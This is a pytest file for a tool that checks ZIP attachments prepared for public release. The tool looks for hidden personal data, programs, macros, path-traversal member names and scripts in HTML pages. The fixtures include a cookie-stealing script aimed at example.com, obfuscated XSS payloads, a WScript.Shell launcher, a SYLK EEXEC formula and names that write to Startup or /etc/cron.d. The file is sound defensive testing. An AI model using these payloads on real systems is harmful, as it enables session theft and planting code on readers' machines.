"""ZIP: every member and every member's name."""

from __future__ import annotations

import io
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gongkai.checks import pii, privacy

from ..samples import (
    MARK,
    docx_with,
    findings,
    office_zip,
    planted,
)


def test_zip_members_and_their_names_are_read(site):
    inner = office_zip({"名单.csv": f"张三,{planted(1)}\n".encode(), f"张三{planted(2)}.txt": MARK.encode(),
                        "扫描件.jpg": b"\xff\xd8"})
    mobiles, marks = findings(site, "a.zip", inner)
    messages = " ".join(p.message for p in mobiles)
    assert pii.mask(planted(1)) in messages and pii.mask(planted(2)) in messages and "文件名" in messages
    assert marks
    [unread] = site.problems(privacy.NOT_SCANNED.code)
    assert "扫描件.jpg" in unread.message


def _renamed_in_its_header(data: bytes, name: str, other: str) -> bytes:
    """The zip with `name` changed to `other` in the member's own header only (the directory keeps `name`)."""
    at = data.index(name.encode())  # the first occurrence is the member's header
    return data[:at] + other.encode() + data[at + len(other.encode()):]


def test_comments_and_every_form_of_a_members_name_are_read(site):
    import struct
    import zlib

    out = io.BytesIO()
    unicode_name = f"张三{planted(3)}.txt".encode()
    with zipfile.ZipFile(out, "w") as archive:
        archive.comment = f"联系人 {planted(1)} {MARK}".encode("gb18030")  # unzip tools show it on opening
        member = zipfile.ZipInfo("a.txt")
        member.comment = planted(2).encode()
        archive.writestr(member, "正文")
        named = zipfile.ZipInfo("b.txt")  # the name 7-Zip and unzip show is the Unicode field's
        named.extra = struct.pack("<HHBI", 0x7075, 5 + len(unicode_name), 1, zlib.crc32(b"b.txt")) + unicode_name
        archive.writestr(named, "正文")
    mobiles, marks = findings(site, "a.zip", out.getvalue())
    messages = " ".join(p.message for p in mobiles)
    assert all(pii.mask(planted(n)) in messages for n in (1, 2, 3)), messages
    assert marks and "注释" in marks[0].message


def test_a_damaged_member_does_not_hide_the_others(site):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("c.txt", b"x" * 100)  # its data will not match its checksum
        archive.writestr("aaaa.txt", f"联系人 {planted(1)}")  # its header will name it otherwise: unzip extracts it all the same
        archive.writestr("b.txt", f"联系人 {planted(2)}")
    data = _renamed_in_its_header(out.getvalue(), "aaaa.txt", "zzzz.txt").replace(b"x" * 100, b"y" * 100)
    mobiles, _ = findings(site, "a.zip", data)
    messages = " ".join(p.message for p in mobiles)
    assert pii.mask(planted(1)) in messages and pii.mask(planted(2)) in messages, messages
    [unread] = site.problems(privacy.NOT_SCANNED.code)
    assert "c.txt" in unread.message


def _member_alone(name: str, text: str) -> bytes:
    """A member's header and data as a zip writes them, without a directory that lists it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, text)
    data = out.getvalue()
    return data[:data.index(b"PK\x01\x02")]


@pytest.mark.parametrize("name, where", [("a.zip", "before"), ("a.zip", "after"), ("a.docx", "before")])
def test_what_the_directory_does_not_list_is_read(site, name, where):
    """A tool that reads a zip front to back extracts a member its directory does not list; bytes after the end
    record can be cut out and opened."""
    listed = docx_with("正文", "无") if name == "a.docx" else office_zip({"说明.txt": "正文".encode()})
    hidden = _member_alone("名单.txt", f"张三 {planted(1)}")
    # Before: the directory's offsets are relative to its end, so zip tools still list the rest. After: past the end record.
    data = hidden + listed if where == "before" else listed + f"张三 {planted(2)}".encode()
    mobiles, _ = findings(site, name, data)
    number = planted(1) if where == "before" else planted(2)
    assert any(pii.mask(number) in p.message and "目录之外" in p.message for p in mobiles), [p.message for p in mobiles]


_PE = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(64)
_MACROS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "_VBA_PROJECT".encode("utf-16-le") + bytes(100)


@pytest.mark.parametrize(("members", "said"), [
    ({"名单.pdf.exe": _PE}, "压缩包内“名单.pdf.exe”（程序、脚本或快捷方式）"),
    ({"说明.txt": _PE}, "压缩包内“说明.txt”（程序、脚本或快捷方式）"),
    ({"打开.js": b"WScript.CreateObject('WScript.Shell').Run('calc')"}, "打开.js"),
    ({"名单.lnk": b"L\0\0\0\1\x14\2\0"}, "名单.lnk"),
    ({"表/汇总.xlsm": b"PK\3\4"}, "汇总.xlsm"),
    ({"通知.doc": _MACROS}, "压缩包内“通知.doc”中的宏（VBA）"),
    ({"会议记录.one": b"\xe4\x52\x5c\x7b"}, "会议记录.one"),
    ({"查询.iqy": b"WEB\n1\nhttp://example.com/x\n"}, "查询.iqy"),
    ({"安装.msi": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)}, "安装.msi"),
])
def test_a_program_a_script_or_a_macro_in_a_zip_is_an_error(site, members, said):
    """Windows runs a .js, a .lnk or a program in a zip on a double click, and Word runs a document's macros: an
    attachment published for the public holds none (GK317), whatever the member is named."""
    site.attach("a.zip", office_zip({"名单.csv": "姓名\n张三\n".encode(), **members}))
    site.item(attachments=[{"title": "材料", "file": "a.zip"}])
    [problem] = site.problems(privacy.SCRIPT.code)
    assert said in problem.message and problem.is_error


def test_a_document_with_macros_is_an_error_attached_or_inside_a_docx(site):
    from ..samples import docx_with

    with zipfile.ZipFile(io.BytesIO(docx_with("正文", "无"))) as source:
        parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    parts["word/vbaProject.bin"] = _MACROS
    site.attach("a.doc", _MACROS)
    site.attach("b.docx", office_zip(parts))
    site.item(attachments=[{"title": "通知", "file": "a.doc"}, {"title": "附表", "file": "b.docx"}])
    messages = sorted(problem.message for problem in site.problems(privacy.SCRIPT.code))
    assert len(messages) == 2 and "宏（VBA）" in messages[0] and "word/vbaProject.bin" in messages[1]


def test_documents_and_tables_in_a_zip_pass(site):
    from ..samples import docx_with, pdf_with_text

    site.attach("a.zip", office_zip({"通知.docx": docx_with("正文", "无"), "名单.pdf": pdf_with_text("x"), "表.csv": b"a,b\n"}))
    site.item(attachments=[{"title": "材料", "file": "a.zip"}])
    assert site.problems(privacy.SCRIPT.code) == []


def _zip_of(*members: zipfile.ZipInfo) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for member in members:
            archive.writestr(member, "正文")
    return out.getvalue()


def _link(name: str) -> zipfile.ZipInfo:
    member = zipfile.ZipInfo(name)
    member.create_system = 3
    member.external_attr = (0o120777 << 16)
    return member


@pytest.mark.parametrize(("member", "said"), [
    (zipfile.ZipInfo("../../AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/a.txt"), "“../../AppData"),
    (zipfile.ZipInfo("材料/..\\..\\a.txt"), "材料/..\\..\\a.txt"),
    (zipfile.ZipInfo("/etc/cron.d/a"), "“/etc/cron.d/a”"),
    (zipfile.ZipInfo("C:/Users/Public/a.txt"), "“C:/Users/Public/a.txt”"),
    (_link("桌面"), "“桌面”（解压后是指向别处的链接）"),
])
def test_a_member_that_unzips_outside_its_folder_is_an_error(site, member, said):
    """Older and careless unzip tools write `../` names, absolute paths and drive paths where they say, and follow
    a member that is a link: a zip published for the public writes only into the folder it is unzipped into."""
    site.attach("a.zip", _zip_of(zipfile.ZipInfo("说明.txt"), member))
    site.item(attachments=[{"title": "材料", "file": "a.zip"}])
    [problem] = site.problems(privacy.SCRIPT.code)
    assert said in problem.message and problem.is_error


def test_dots_and_folders_inside_names_pass(site):
    site.attach("a.zip", _zip_of(zipfile.ZipInfo("材料/名单..备份.txt"), zipfile.ZipInfo("材料/.说明/a.txt"),
                                 zipfile.ZipInfo("...txt")))
    site.item(attachments=[{"title": "材料", "file": "a.zip"}])
    assert site.problems(privacy.SCRIPT.code) == []


@pytest.mark.parametrize("page", [
    "<p>名单</p><script>location='http://example.com/?'+document.cookie</script>",
    '<img src="x" oNeRrOr="fetch(1)">',
    '<a href=" jav&#x09;ascript:alert(1)">名单</a>',
    '<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="javascript:alert(1)"><text>名单</text></a></svg>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
])
def test_a_page_with_script_in_a_zip_is_an_error(site, page):
    """A page unzipped and opened runs its script in the reader's browser (and a page's script is how files are
    smuggled past a mail filter): GK317, however the script is spelled."""
    site.attach("a.zip", office_zip({"名单.html": page.encode()}))
    site.item(attachments=[{"title": "材料", "file": "a.zip"}])
    [problem] = site.problems(privacy.SCRIPT.code)
    assert "网页中的脚本" in problem.message


def test_a_page_without_script_in_a_zip_passes(site):
    page = '<details open><summary>名单</summary><a href="https://www.gov.cn/">链接</a><p title="onload">正文</p></details>'
    site.attach("a.zip", office_zip({"名单.html": page.encode(), "图.svg": b'<svg xmlns="http://www.w3.org/2000/svg"/>'}))
    site.item(attachments=[{"title": "材料", "file": "a.zip"}])
    assert site.problems(privacy.SCRIPT.code) == []


def test_a_table_excel_opens_as_sylk_in_a_zip_is_an_error(site):
    """Excel opens a table beginning "ID;" as SYLK, whose cells may run Excel 4.0 macro formulas (GK315)."""
    site.attach("a.zip", office_zip({"名单.csv": b'ID;P\r\nC;Y1;X1;EEXEC("calc")\r\nE\r\n', "表.csv": b"ID,name\n1,a\n"}))
    site.item(attachments=[{"title": "材料", "file": "a.zip"}])
    [problem] = site.problems(privacy.FORMULA.code)
    assert "名单.csv" in problem.message and "SYLK" in problem.message


def _encrypted(name: str) -> zipfile.ZipInfo:
    member = zipfile.ZipInfo(name)
    member.flag_bits |= 0x1  # as an encrypting zip tool marks it: its bytes cannot be read, its name still can
    return member


@pytest.mark.parametrize(("member", "said"), [
    (_encrypted("发票.exe"), "压缩包内“发票.exe”（程序、脚本或快捷方式）"),
    (zipfile.ZipInfo("发票.pdf.exe. "), "压缩包内“发票.pdf.exe. ”（程序、脚本或快捷方式）"),
    (zipfile.ZipInfo("打开.JS"), "打开.JS"),
])
def test_a_program_is_known_by_the_name_it_unzips_as(site, member, said):
    """An encrypted member's bytes go unread, but its name says it is a program; Windows drops a name's trailing dots
    and spaces, so `发票.pdf.exe. ` unzips as a program."""
    site.attach("a.zip", _zip_of(zipfile.ZipInfo("说明.txt"), member))
    site.item(attachments=[{"title": "材料", "file": "a.zip"}])
    [problem] = site.problems(privacy.SCRIPT.code)
    assert said in problem.message and problem.is_error


_SEGMENT = st.text(st.characters(exclude_characters="/\\:\0", codec="utf-8"), min_size=1, max_size=8) \
    .filter(lambda part: part.strip(".") != "" and part == part.rstrip(" ."))


@settings(max_examples=150, deadline=None)
@given(parts=st.lists(_SEGMENT, min_size=1, max_size=4), at=st.integers(0, 4),
       up=st.sampled_from(["..", "../..", "..\\.."]))
def test_a_name_leads_outside_exactly_when_it_has_a_parent_step(parts, at, up):
    """Folders and names of any characters stay inside; a `..` step anywhere leads outside, with either separator."""
    from gongkai.readers.archive import read_zip
    from gongkai.readers.core import Reading

    def escapes(name: str) -> bool:
        reading = Reading()
        read_zip(_zip_of(zipfile.ZipInfo(name)), "", reading, 0)
        return any("解压文件夹之外" in script for script in reading.scripts)

    assert not escapes("/".join(parts))
    assert escapes("/".join([*parts[:at], up, *parts[at:]]))


_NOISE = st.sampled_from(["", "\t", "\n", "&#9;", "&#x0A;", "&Tab;", "&NewLine;", "\x01"])


@settings(max_examples=150, deadline=None)
@given(handler=st.sampled_from(["onload", "onerror", "onfocus", "onbegin", "onpointerover"]),
       flips=st.lists(st.booleans(), min_size=13, max_size=13),
       noise=st.lists(_NOISE, min_size=11, max_size=11),
       attribute=st.sampled_from(["href", "src", "action", "formaction", "data", "xlink:href"]),
       lead=st.sampled_from(["", " " * 60, "\t" * 100, "\x01" * 70, "&#32;" * 65]))
def test_script_in_a_page_is_found_however_it_is_spelled(handler, flips, noise, attribute, lead):
    """A handler in any case, and a `javascript:` address whose scheme holds tabs and line ends (which a browser
    skips), spelled as character references or not, or control characters (skipped too, to be safe), after any number
    of blanks (the reader looked at an address's first 64 characters): each is GK317's; the same letters inside an
    address's path are not."""
    from gongkai.readers.core import Reading
    from gongkai.readers.web import html_text

    def flagged(page: str) -> bool:
        reading = Reading()
        html_text(page, "", reading)
        return bool(reading.scripts)

    cased = "".join(ch.upper() if flip else ch for ch, flip in zip(handler, flips, strict=False))
    scheme = "".join(ch + extra for ch, extra in zip("javascript:", noise, strict=True))
    assert flagged(f'<img src="x.png" {cased}="a()">')
    assert flagged(f'<p><a {attribute}=" {scheme}alert(1)">名单</a></p>')
    assert flagged(f'<p><a {attribute}="{lead}{scheme}alert(1)">名单</a></p>')  # a browser drops any number of them
    assert not flagged(f'<p><a {attribute}="https://www.gov.cn/{scheme}">名单</a></p>')


@pytest.mark.parametrize("encoding", ["utf-8", "gb18030"])
def test_a_name_written_without_the_utf8_flag_is_read_as_either_encoding_shows_it(site, encoding):
    """Zip tools that set no flag write names in the system's encoding: GBK on Chinese Windows, UTF-8 elsewhere (7-Zip,
    macOS and unzip show those as UTF-8)."""
    name = f"{MARK}名单{planted(1)}.txt".encode(encoding)
    placeholder = b"x" * len(name)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(placeholder.decode(), "正文")
    data = out.getvalue().replace(placeholder, name)  # the header's and the directory's: no flag, as those tools write
    mobiles, marks = findings(site, "a.zip", data)
    assert mobiles and pii.mask(planted(1)) in mobiles[0].message and "文件名" in mobiles[0].message
    assert marks
